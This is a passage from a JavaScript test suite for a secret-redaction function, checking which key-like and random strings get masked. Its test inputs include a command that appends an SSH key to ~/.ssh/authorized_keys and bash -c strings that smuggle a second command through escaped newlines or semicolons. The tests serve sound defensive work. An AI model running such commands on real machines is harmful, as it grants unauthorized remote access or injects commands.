    for (const text of [`echo 'ssh-ed25519 ${pub} me@host' >> ~/.ssh/authorized_keys`, `echo "ecdsa-sha2-nistp256 ${pub}" >> known_hosts`, `<script integrity="sha384-${random(48)}"></script>`]) {
      expect(r.redactText(text)).toBe(text);
    }
    const run = random(48);
    expect(r.redactText(`bash -c $'true\\n${run}'`)).toBe(`bash -c $'true\\n${REDACTED}'`);
    expect(r.redactText(`bash -c $'true\\x3b${run}'`)).toBe(`bash -c $'true\\x3b${REDACTED}'`);
  });

  test('a run under 40 characters is not masked for its shape: the shortest last line of a key body is left (too little of the key to matter)', () => {
    const short = random(27);
    expect(short.length).toBe(36);
    expect(r.redactText(`echo '${short}' >> k`)).toBe(`echo '${short}' >> k`);
  });
});
